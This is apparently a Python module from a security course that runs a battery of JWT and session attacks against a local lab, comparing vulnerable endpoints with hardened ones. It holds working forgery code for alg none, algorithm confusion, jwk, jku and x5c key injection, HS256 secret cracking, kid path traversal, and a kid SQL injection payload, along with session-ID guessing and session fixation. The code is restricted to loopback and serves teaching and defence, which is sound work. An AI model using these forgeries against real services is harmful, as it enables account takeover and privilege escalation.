"""The attack battery: every attack of chapter 9, against its vulnerable endpoint and against the
hardened lab, with what each said.

Each attack builds its forged credential step by step with PyJWT, ``cryptography`` and HTTP
requests to the lab (and nowhere else: every request goes through a client bound to the lab's
loopback URL), sends it to the one vulnerable endpoint that has the matching mistake, then
sends the same kind of forgery to the hardened endpoint, and records both answers.

    >>> rows = run_battery(lab)       # lab = start_lab(vulnerable=True), or its base URL
    >>> print(summary(rows))
"""

from __future__ import annotations

import hashlib
import hmac
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import jwt
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from jwt.algorithms import ECAlgorithm

from ..forge import encode_unsigned, hs256_with_key_bytes, tamper
from ..users import PASSWORDS
from ..x5c import self_made_chain

WORDLIST = Path(__file__).resolve().parents[1] / "data" / "wordlist.txt"


def words(path: Path = WORDLIST) -> list[str]:
    """The course's short word list of weak secrets."""
    return [w for w in path.read_text().split("\n") if w and not w.startswith("#")]


def crack_hs256(token: str, candidates: Iterable[str]) -> str | None:
    """The secret among ``candidates`` that verifies this HS256 token's signature, or None.

    Offline: only the token is needed, and each guess costs one HMAC.
    """
    signing_input, _, signature = token.rpartition(".")
    expected = jwt.utils.base64url_decode(signature.encode())
    for word in candidates:
        if hmac.compare_digest(
            hmac.new(word.encode(), signing_input.encode(), hashlib.sha256).digest(), expected
        ):
            return word
    return None


@dataclass(frozen=True)
class AttackResult:
    """One attack: what the vulnerable endpoint and the hardened lab answered."""

    attack: str
    vulnerable: str  # e.g. "accepted: sub 'alice', roles ['admin']"
    hardened: str  # e.g. "401 bad signature: ..."
    rule: str  # what stops it
    vulnerable_accepted: bool
    # The hardened side held: it refused (a 401), or, where a genuine answer is right (the
    # lab's refresh grant), it gave the attacker nothing that was not already theirs.
    hardened_refused: bool
    held_as: str = "refused"  # how it held, for summary(): "refused", or e.g. "own token only"


LOOPBACK = {"127.0.0.1", "localhost", "::1"}


class Attacker:
    """An attacker's tools against one lab: fresh HTTP clients (each a browser of its own) and
    the lab's public information. ``target`` is a running lab or its base URL, on loopback only."""

    def __init__(self, target) -> None:
        url = target if isinstance(target, str) else target.url
        if urlsplit(url).hostname not in LOOPBACK:
            raise ValueError(
                f"the attack battery runs against a lab on this machine only, not {url!r}"
            )
        self._target = target
        self.url = url.rstrip("/")
        self.host = urlsplit(url).hostname

    def client(self):
        """A new HTTP client for the lab, with an empty cookie jar."""
        from ..lab import LabHTTP

        if isinstance(self._target, str):
            return LabHTTP(self.url + "/")
        return self._target.client()

    def token(self, user: str = "bob", path: str = "/oauth/token", **body) -> str:
        """A genuine token for ``user`` (the attacker's own account, by default)."""
        response = self.client().post(
            path, json={"username": user, "password": PASSWORDS[user], **body}
        )
        response.raise_for_status()
        return response.json()["access_token"]

    def claims(self, token: str | None = None, **changes) -> dict:
        """The claims of a genuine token of the attacker's, with ``changes`` (e.g. admin roles)."""
        claims = jwt.decode(token or self.token(), options={"verify_signature": False})
        return {**claims, **changes}

    def call(self, path: str, token: str) -> tuple[int, dict]:
        """Send ``token`` as a bearer token to ``path``; the status and the JSON body."""
        response = self.client().get(path, headers={"Authorization": f"Bearer {token}"})
        return response.status_code, response.json()

    def try_token(self, path: str, token: str) -> str:
        """Send ``token`` to ``path`` and say in one line what the endpoint made of it."""
        return _verdict(*self.call(path, token))


def _verdict(status: int, body: dict) -> str:
    if status == 200:
        return f"accepted: sub {body.get('sub')!r}, roles {body.get('roles')}"
    return f"{status} {body.get('error_description', body.get('error', ''))}"


@dataclass(frozen=True)
class JwtAttack:
    """An attack whose forgery goes to one vulnerable endpoint, and its twin to the hardened
    ``/api/me``. ``forge(attacker)`` returns the two forged tokens."""

    name: str
    rule: str
    vulnerable_path: str
    forge: Callable[[Attacker], tuple[str, str]]

    def __call__(self, attacker: Attacker) -> AttackResult:
        against_vulnerable, against_hardened = self.forge(attacker)
        v_status, v_body = attacker.call(self.vulnerable_path, against_vulnerable)
        h_status, h_body = attacker.call("/api/me", against_hardened)
        return AttackResult(
            self.name,
            _verdict(v_status, v_body),
            _verdict(h_status, h_body),
            self.rule,
            v_status == 200,
            h_status == 401,
        )


ADMIN = {"roles": ["admin"]}


def _no_verify(a: Attacker):
    forged = tamper(a.token(), **ADMIN)
    return forged, forged


def _alg_none(a: Attacker):
    forged = encode_unsigned({"alg": "none", "typ": "at+jwt", "kid": "es256-1"}, a.claims(**ADMIN))
    return forged, forged


def _weak_secret(a: Attacker):
    weak = a.token(path="/vulnerable/weak-secret/token")
    secret = crack_hs256(weak, words())  # found: one HMAC per word, offline
    forged = hs256_with_key_bytes({"typ": "at+jwt"}, a.claims(weak, **ADMIN), secret.encode())
    # The hardened lab's HS256 token resists the same word list (32 random bytes), so the best
    # the attacker has is the guess that worked elsewhere, under the lab's HS256 kid.
    strong = a.token(alg="HS256")
    guess = crack_hs256(strong, words()) or secret
    header = jwt.get_unverified_header(strong)
    against_hardened = hs256_with_key_bytes(
        {"typ": "at+jwt", "kid": header["kid"]}, a.claims(strong, **ADMIN), guess.encode()
    )
    return forged, against_hardened


def _jwk_header(a: Attacker):
    mine = ec.generate_private_key(ec.SECP256R1())
    jwk = ECAlgorithm.to_jwk(mine.public_key(), as_dict=True)
    forged = jwt.encode(
        a.claims(**ADMIN),
        mine,
        algorithm="ES256",
        headers={"typ": "at+jwt", "kid": "es256-1", "jwk": jwk},
    )
    return forged, forged


def _jku(a: Attacker):
    mine = ec.generate_private_key(ec.SECP256R1())
    jwks = {
        "keys": [
            {
                **ECAlgorithm.to_jwk(mine.public_key(), as_dict=True),
                "kid": "attacker-1",
                "alg": "ES256",
            }
        ]
    }
    url = (
        a.client().post("/vulnerable/uploads", json=jwks).json()["url"]
    )  # hosted on the lab itself
    forged = jwt.encode(
        a.claims(**ADMIN),
        mine,
        algorithm="ES256",
        headers={"typ": "at+jwt", "kid": "attacker-1", "jku": url},
    )
    return forged, forged


def _kid_path(a: Attacker):
    forged = hs256_with_key_bytes(
        {"typ": "at+jwt", "kid": "../public/empty.txt"}, a.claims(**ADMIN), b""
    )
    return forged, forged


def _alg_confusion(a: Attacker):
    jwks = a.client().get("/.well-known/jwks.json").json()  # the public key, as anyone can get it
    public = jwt.PyJWK(next(k for k in jwks["keys"] if k["kid"] == "rs256-1")).key
    pem = public.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    forged = hs256_with_key_bytes({"typ": "at+jwt", "kid": "rs256-1"}, a.claims(**ADMIN), pem)
    return forged, forged


#: WebGoat's final JWT challenge: the kid ends the key query and appends one of its own.
KID_SQL_INJECTION = "x' UNION SELECT 'known-secret' --"


def _kid_sql(a: Attacker):
    forged = hs256_with_key_bytes(
        {"typ": "at+jwt", "kid": KID_SQL_INJECTION}, a.claims(**ADMIN), b"known-secret"
    )
    return forged, forged


def _x5c(a: Attacker):
    claims = a.claims(**ADMIN)
    # The attacker's own CA and leaf, valid around lab time (read off a genuine token's iat).
    leaf_key, chain = self_made_chain(claims["iat"])
    forged = jwt.encode(
        claims,
        leaf_key,
        algorithm="ES256",
        headers={"typ": "at+jwt", "kid": "es256-1", "x5c": chain},
    )
    return forged, forged


UNBOUND_REFRESH = "/vulnerable/unbound-refresh/token"


def _refresh_token_of(a: Attacker, user: str) -> str:
    """A refresh token of the lab's, for ``user``: a login at the unbound-refresh endpoint."""
    answer = a.client().post(UNBOUND_REFRESH, json={"username": user, "password": PASSWORDS[user]})
    answer.raise_for_status()
    return answer.json()["refresh_token"]


def _redeemed(a: Attacker, response) -> tuple[str, str | None]:
    """What a token endpoint's answer gave: one line, and the subject of the new token."""
    if response.status_code != 200:
        return _verdict(response.status_code, response.json()), None
    claims = a.claims(response.json()["access_token"])
    return f"200 a token: sub {claims.get('sub')!r}, roles {claims.get('roles')}", claims.get("sub")


def _unbound_refresh(a: Attacker) -> AttackResult:
    # Alice's access token, leaked (a log, a proxy). It lives 1 s, so it is expired once the lab
    # clock is 31 s on (leeway 30 s). The battery never moves the clock, which other cells
    # share: the vulnerable endpoint takes the token expired or not, by design.
    leaked = a.token("alice", lifetime=1)
    redeem = {"grant_type": "refresh_token", "access_token": leaked}
    v = a.client().post(
        UNBOUND_REFRESH, json={**redeem, "refresh_token": _refresh_token_of(a, "bob")}
    )
    # Hardened: the same request at the lab's own token endpoint, with another refresh token of
    # bob's. It answers 200, rightly: the question is for whom.
    h = a.client().post(
        "/oauth/token", json={**redeem, "refresh_token": _refresh_token_of(a, "bob")}
    )
    v_line, v_sub = _redeemed(a, v)
    if v_sub is not None:  # and the lab's own API takes the new token: it is genuine
        v_line = a.try_token("/api/me", v.json()["access_token"])
    h_line, h_sub = _redeemed(a, h)
    if h_sub == "bob":
        h_line += " (the refresh token's owner, not the access token's subject)"
    return AttackResult(
        "refresh token not bound",
        v_line,
        h_line,
        "RFC 6749 sections 6 and 10.4: a refresh token is bound to the client and grant it was "
        "issued for; the new token is for its owner, whatever token comes along",
        v_sub == "alice" and v_line.startswith("accepted"),
        h.status_code in (400, 401) or (h.status_code == 200 and h_sub == "bob"),
        "refused" if h.status_code != 200 else "own token only",
    )


def _predictable_session(a: Attacker) -> AttackResult:
    victim = a.client()
    victim.post(
        "/vulnerable/session/login", json={"username": "alice", "password": PASSWORDS["alice"]}
    )
    attacker = a.client()
    mine = attacker.post(
        "/vulnerable/session/login", json={"username": "bob", "password": PASSWORDS["bob"]}
    ).json()["session"]
    guess = str(int(mine) - 1)  # the session opened just before the attacker's
    v = a.client().get("/vulnerable/session/me", headers={"Cookie": f"vsession={guess}"})
    # Hardened: the lab's IDs are 256 random bits; the same "neighbour" guess goes nowhere.
    real = a.client()
    real.post("/session/login", json={"username": "bob", "password": PASSWORDS["bob"]})
    own = real.cookies["session"]
    neighbour = own[:-1] + ("A" if own[-1] != "A" else "B")
    h = a.client().get("/session/me", headers={"Cookie": f"session={neighbour}"})
    return AttackResult(
        "predictable session ID",
        _verdict(v.status_code, v.json()),
        _verdict(h.status_code, h.json()),
        "OWASP Session Management: session ID entropy (>= 64 bits, from a CSPRNG)",
        v.status_code == 200,
        h.status_code == 401,
    )


def _fixation(a: Attacker) -> AttackResult:
    attacker = a.client()
    planted = attacker.get("/vulnerable/session/start").json()["session"]
    victim = a.client()
    victim.cookies.set("vsession", planted, domain=a.host, path="/vulnerable/")
    victim.post(
        "/vulnerable/session/login-keep-id",
        json={"username": "alice", "password": PASSWORDS["alice"]},
    )
    v = a.client().get("/vulnerable/session/me", headers={"Cookie": f"vsession={planted}"})
    # Hardened: plant an ID of the attacker's own session; the login issues a new one.
    own = a.client()
    own.post("/session/login", json={"username": "bob", "password": PASSWORDS["bob"]})
    planted_real = own.cookies["session"]
    victim2 = a.client()
    victim2.cookies.set("session", planted_real, domain=a.host, path="/")
    victim2.post("/session/login", json={"username": "alice", "password": PASSWORDS["alice"]})
    h = a.client().get("/session/me", headers={"Cookie": f"session={planted_real}"})
    return AttackResult(
        "session fixation",
        _verdict(v.status_code, v.json()),
        _verdict(h.status_code, h.json()),
        "OWASP Session Management: renew the session ID at login",
        v.status_code == 200,
        h.status_code == 401,
    )


def _no_exposed_key(a: Attacker):
    # The battery's fast mode: the JWKS modulus stands in for the 30-second gcd, after checking
    # that it signed two fresh tokens (tests/test_modulus_recovery.py runs the real gcd).
    from .modulus_recovery import forge_no_exposed_key

    return forge_no_exposed_key(a, say=None)


def _token_in_url(a: Attacker) -> AttackResult:
    from .url_leak import token_in_url  # it builds on this module

    return token_in_url(a)


ATTACKS: list[Callable[[Attacker], AttackResult]] = [  # JwtAttack instances first, then the rest
    JwtAttack(
        "signature not verified",
        "RFC 7519 section 7.2: validate the JWS before any claim",
        "/vulnerable/no-verify/me",
        _no_verify,
    ),
    JwtAttack(
        "alg: none",
        "RFC 8725 sections 2.1 and 3.1: an algorithm allowlist, never none",
        "/vulnerable/alg-none/me",
        _alg_none,
    ),
    JwtAttack(
        "weak HMAC secret",
        "RFC 8725 sections 2.2 and 3.5, RFC 7518 section 3.2: 32+ random bytes",
        "/vulnerable/weak-secret/me",
        _weak_secret,
    ),
    JwtAttack(
        "key in the jwk header",
        "RFC 8725 section 3.10 (do not trust received claims), CVE-2018-0114: keys come from the "
        "verifier's own set",
        "/vulnerable/jwk-header/me",
        _jwk_header,
    ),
    JwtAttack(
        "key from the jku URL",
        "RFC 8725 sections 2.9 and 3.10: never follow a token's jku blindly (SSRF); allowlist key "
        "URLs",
        "/vulnerable/jku/me",
        _jku,
    ),
    JwtAttack(
        "kid as a file path",
        "RFC 8725 sections 2.9 and 3.10: a kid is a name looked up in your own set, never a path",
        "/vulnerable/kid-path/me",
        _kid_path,
    ),
    JwtAttack(
        "algorithm confusion",
        "RFC 8725 sections 2.1 and 3.1: each key is used with exactly one algorithm",
        "/vulnerable/alg-confusion/me",
        _alg_confusion,
    ),
    JwtAttack(
        "algorithm confusion, no exposed key",
        "RFC 8725 sections 2.1 and 3.1: each key is used with exactly one algorithm; an "
        "unpublished public key is still public (two signatures give its modulus away)",
        "/vulnerable/alg-confusion/me",
        _no_exposed_key,
    ),
    JwtAttack(
        "kid SQL injection",
        "RFC 8725 section 3.10: a kid must not open an SQL injection; OWASP SQL Injection "
        "Prevention Cheat Sheet, defense 1: parameterised queries (and only kids of your own set)",
        "/vulnerable/kid-sql/me",
        _kid_sql,
    ),
    JwtAttack(
        "certificate chain in x5c",
        "RFC 7515 section 4.1.6 and RFC 5280 section 6: an x5c chain is validated up to a trust "
        "anchor the verifier already holds; RFC 8725 section 3.10: keys come from its own set",
        "/vulnerable/x5c/me",
        _x5c,
    ),
    _unbound_refresh,  # token-shaped, but a grant: not a JwtAttack, so not in verifier_battery
    _token_in_url,
    _predictable_session,
    _fixation,
]


def run_battery(target) -> list[AttackResult]:
    """Run every attack against ``target`` (a lab started with ``vulnerable=True``, or its base
    URL on loopback) and return one :class:`AttackResult` per attack."""
    attacker = Attacker(target)
    return [attack(attacker) for attack in ATTACKS]


def verifier_battery(target, verify: Callable[[str], dict]) -> list[AttackResult]:
    """The token attacks against a verifier of yours instead of the vulnerable endpoints.

    ``verify(token)`` returns the claims it trusts or raises ``jwt.InvalidTokenError``. Its
    column says "accepted" (it returned claims), "refused" (it raised InvalidTokenError) or
    "crashed" (any other exception: a server would answer 500). The hardened lab's column is
    as in :func:`run_battery`.
    """
    attacker = Attacker(target)
    rows = []
    for attack in ATTACKS:
        if not isinstance(attack, JwtAttack):
            continue
        forged, against_hardened = attack.forge(attacker)
        try:
            claims = verify(forged)
            verdict, accepted = (
                f"accepted: sub {claims.get('sub')!r}, roles {claims.get('roles')}",
                True,
            )
        except jwt.InvalidTokenError as exc:
            verdict, accepted = f"refused: {type(exc).__name__}: {exc}", False
        except Exception as exc:  # noqa: BLE001 - the point is to show it
            verdict, accepted = f"crashed: {type(exc).__name__}: {exc}", False
        h_status, h_body = attacker.call("/api/me", against_hardened)
        rows.append(
            AttackResult(
                attack.name,
                verdict,
                _verdict(h_status, h_body),
                attack.rule,
                accepted,
                h_status == 401,
            )
        )
    return rows


def table(results: list[AttackResult]) -> str:
    """The results as text: attack, the vulnerable endpoint's answer, the hardened lab's answer."""
    lines = []
    for r in results:
        lines.append(
            f"{r.attack}\n    vulnerable: {r.vulnerable}\n    hardened:   {r.hardened}\n"
            f"    rule:       {r.rule}"
        )
    return "\n".join(lines)


def summary(results: list[AttackResult], against: str = "vulnerable endpoint") -> str:
    """One line per attack: did the vulnerable side (``against``) fall, the hardened lab hold?"""
    width = max(len(r.attack) for r in results)
    left = max(len(against), 20)

    def fell(r: AttackResult) -> str:
        if r.vulnerable_accepted:
            return "ACCEPTED (broken)"
        return "CRASHED (a 500)" if r.vulnerable.startswith("crashed") else "refused"

    head = f"{'attack':<{width}}  {against:<{left}} hardened lab"
    rows = [
        f"{r.attack:<{width}}  {fell(r):<{left}} {held}"
        for r in results
        for held in [f"{r.held_as} (holds)" if r.hardened_refused else "ACCEPTED"]
    ]
    return "\n".join([head] + rows)
